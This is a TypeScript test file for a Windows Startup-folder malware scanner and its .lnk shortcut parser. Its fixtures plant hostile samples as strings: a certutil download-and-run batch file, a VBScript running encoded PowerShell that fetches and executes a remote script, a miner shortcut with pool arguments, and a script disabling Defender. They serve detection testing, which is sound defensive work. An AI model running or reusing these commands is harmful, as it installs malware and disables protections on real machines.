/**
 * The Startup-folders check on planted folders (a shortcut to a miner with its pool, a
 * batch file that downloads with certutil, a VBScript that runs encoded PowerShell, a
 * program dropped in the folder, a UTF-16 PowerShell script turning Defender off, for all
 * users and for one profile) and on ordinary ones (a real shortcut to cmd.exe,
 * desktop.ini, a logon script mapping a drive); and the shell-link (.lnk) parser against libyal's lnkinfo (Debian's liblnk-utils) on the 38
 * real shortcuts of ../shared/windows-samples/lnk, which cover every LinkInfo and
 * ExtraData kind: local, network, relative and environment paths, working directory,
 * arguments and description agree field by field. Damaged shortcuts (every truncation of
 * a real one, offsets pointing outside) give typed errors, never a crash.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parseShellLink } from '../../src/checks/parsers/shell-link.js';
import { MountfsError } from '../../mountfs/errors.js';
import { plantWindowsRoot, utf16, WINDOWS_SAMPLES, windowsSamplesPresent } from '../helpers/windows-samples.js';
import { ALL_CHECKS } from '../../src/checks/index.js';
import { scanDirectory } from '../helpers/scan-dir.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import type { Finding } from '../../src/model/finding.js';

/**
 * A shortcut as MS-SHLLINK lays it out: the header, a LinkInfo with a local base path,
 * then the working directory and arguments as UTF-16 StringData.
 */
function shellLink(target: string, args: string, workdir = ''): Buffer {
  const header = Buffer.alloc(0x4c);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  header.writeUInt32LE(0x2 | 0x10 | 0x20 | 0x80, 20);
  header.writeUInt32LE(7, 60);
  const base = Buffer.from(`${target}\0`, 'latin1');
  const info = Buffer.alloc(0x1c + 0x11 + base.length + 1);
  info.writeUInt32LE(info.length, 0);
  info.writeUInt32LE(0x1c, 4);
  info.writeUInt32LE(1, 8);
  info.writeUInt32LE(0x1c, 12);
  info.writeUInt32LE(0x11, 0x1c);
  info.writeUInt32LE(0x1c + 0x11, 16);
  info.writeUInt32LE(info.length - 1, 24);
  base.copy(info, 0x1c + 0x11);
  const str = (s: string) => {
    const b = Buffer.alloc(2 + s.length * 2);
    b.writeUInt16LE(s.length, 0);
    b.write(s, 2, 'utf16le');
    return b;
  };
  return Buffer.concat([header, info, str(workdir), str(args), Buffer.alloc(4)]);
}

const STARTUP = 'Microsoft/Windows/Start Menu/Programs/Startup';
const serious = (f: Finding) => ['critical', 'high', 'medium'].includes(f.severity);

describe('Windows Startup folders', () => {
  let scratch: string;
  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-startup-');
    const encoded = Buffer.from('iwr http://203.0.113.5/m.ps1 | iex', 'utf16le').toString('base64');
    await plantWindowsRoot(path.join(scratch, 'infected'), {
      [`ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/Windows Security.lnk`]: shellLink('C:\\ProgramData\\WinSec\\SecurityHealth.exe', '-o pool.hashvault.pro:443 --donate-level=0 --cpu-max-threads-hint 50', 'C:\\ProgramData\\WinSec'),
      [`Users/alice/AppData/Roaming/${STARTUP}/update.bat`]: '@echo off\r\nrem keep updated\r\ncertutil -urlcache -split -f http://198.51.100.8/u.exe %TEMP%\\u.exe\r\nstart /b %TEMP%\\u.exe\r\n',
      [`Users/alice/AppData/Roaming/${STARTUP}/sync.vbs`]: `Set s = CreateObject("WScript.Shell")\r\n' run quietly\r\ns.Run "powershell -w hidden -enc ${encoded}", 0\r\n`,
      [`Users/bob/AppData/Roaming/${STARTUP}/OneDriveHelper.exe`]: Buffer.from('MZ'),
      [`Users/bob/AppData/Roaming/${STARTUP}/tune.ps1`]: utf16('Set-MpPreference -DisableRealtimeMonitoring $true\nStart-Process C:\\Users\\Public\\m.exe -WindowStyle Hidden\n'),
    });
    const stock: Record<string, string | Buffer> = {
      [`ProgramData/${STARTUP}/desktop.ini`]: '[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21787\r\n',
      [`Users/carol/AppData/Roaming/${STARTUP}/map-drives.cmd`]: '@echo off\r\nnet use S: \\\\fileserver\\share /persistent:no\r\n',
    };
    if (SAMPLES) stock[`Users/carol/AppData/Roaming/${STARTUP}/Command Prompt.lnk`] = readFileSync(path.join(LNK_DIR, 'museum/Win10/01_-_Command_Prompt.lnk'));
    await plantWindowsRoot(path.join(scratch, 'clean'), stock);
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('finds what the planted shortcuts, scripts and programs start', async () => {
    const result = await scanDirectory(path.join(scratch, 'infected'), ALL_CHECKS);
    expect(result.errors).toEqual([]);
    const rules = (rel: string) => result.findings.filter((f) => f.path === `/${rel}`).map((f) => f.rule);
    expect(rules('ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/Windows Security.lnk')).toEqual(expect.arrayContaining(['command.miner']));
    expect(rules(`Users/alice/AppData/Roaming/${STARTUP}/update.bat`)).toEqual(expect.arrayContaining(['windows-command.download-file', 'windows-command.started-from-user-writable']));
    expect(rules(`Users/alice/AppData/Roaming/${STARTUP}/sync.vbs`)).toEqual(expect.arrayContaining(['windows-command.powershell-encoded', 'windows-command.download-cradle']));
    expect(rules(`Users/bob/AppData/Roaming/${STARTUP}/OneDriveHelper.exe`)).toEqual(['windows-startup.program']);
    expect(rules(`Users/bob/AppData/Roaming/${STARTUP}/tune.ps1`)).toEqual(expect.arrayContaining(['windows-command.defender-disabled']));
    const link = result.findings.find((f) => f.rule === 'command.miner')!;
    expect(link.message).toContain('Startup folder of all users');
    expect(link.evidence).toContain('C:\\ProgramData\\WinSec\\SecurityHealth.exe -o pool.hashvault.pro:443');
    expect(link.remediation).toContain("Remove-Item -Force -LiteralPath 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\Windows Security.lnk'");
    expect(link.remediation).toContain("Remove-Item -Force -LiteralPath 'C:\\ProgramData\\WinSec\\SecurityHealth.exe'");
  });

  it('stays silent on ordinary Startup folders', async () => {
    const result = await scanDirectory(path.join(scratch, 'clean'), ALL_CHECKS);
    expect(result.errors).toEqual([]);
    expect(result.findings.filter(serious)).toEqual([]);
    expect(result.filesExamined).toBeGreaterThanOrEqual(SAMPLES ? 2 : 1);
  });
});

const SAMPLES = windowsSamplesPresent();
const LNK_DIR = path.join(WINDOWS_SAMPLES, 'lnk');

function lnkFiles(): string[] {
  return (readdirSync(LNK_DIR, { recursive: true }) as string[]).filter((f) => f.endsWith('.lnk')).sort();
}

/** The fields lnkinfo prints that the parser also reads. */
const FIELDS: Record<string, keyof ReturnType<typeof parseShellLink>> = {
  'Local path': 'localPath',
  'Network path': 'networkPath',
  'Relative path': 'relativePath',
  'Working directory': 'workingDirectory',
  'Command line arguments': 'arguments',
  'Environment variables location': 'environmentTarget',
  Description: 'name',
};

function lnkinfo(file: string): Record<string, string> {
  const out = execFileSync('lnkinfo', [file], { encoding: 'utf8' });
  const fields: Record<string, string> = {};
  for (const m of out.matchAll(/^\t([A-Za-z ]+?)\s*\t*: (.*)$/gm)) {
    const key = FIELDS[m[1]!.trim()];
    if (key) fields[key] = m[2]!;
  }
  return fields;
}

describe.skipIf(!SAMPLES)('shell links', () => {
  it('reads the 38 sample shortcuts as lnkinfo does', () => {
    const files = lnkFiles();
    expect(files).toHaveLength(38);
    let compared = 0;
    for (const rel of files) {
      const file = path.join(LNK_DIR, rel);
      const link = parseShellLink(readFileSync(file));
      const expected = lnkinfo(file);
      const mine: Record<string, string> = {};
      for (const key of Object.values(FIELDS)) {
        const v = link[key];
        if (typeof v === 'string' && v !== '') mine[key] = v;
      }
      // lnkinfo prints what it cannot decode as "?"; those fields are not compared.
      for (const [k, v] of Object.entries(expected)) if (v.includes('?') || v.includes('\uFFFD')) (delete expected[k], delete mine[k]);
      for (const k of Object.keys(mine)) if (mine[k]!.includes('\uFFFD')) (delete expected[k], delete mine[k]);
      expect({ rel, ...mine }).toEqual({ rel, ...expected });
      compared += Object.keys(expected).length;
    }
    expect(compared).toBeGreaterThan(60);
  });

  it('gives typed errors on every truncation of a real shortcut and on offsets outside it', () => {
    for (const rel of ['plaso/example.lnk', 'museum/Misc/unicodeNetworkPath.lnk', 'museum/Win7/Windows_PowerShell_Modules.lnk']) {
      const bytes = readFileSync(path.join(LNK_DIR, rel));
      for (let n = 0; n < bytes.length; n++) {
        try {
          parseShellLink(bytes.subarray(0, n));
        } catch (err) {
          expect(err).toBeInstanceOf(MountfsError);
        }
      }
      for (let i = 0x4c; i < Math.min(bytes.length, 0x200); i += 3) {
        const bad = Buffer.from(bytes);
        bad.writeUInt16LE(0xfff0, i);
        try {
          parseShellLink(bad);
        } catch (err) {
          expect(err).toBeInstanceOf(MountfsError);
        }
      }
    }
  });
});
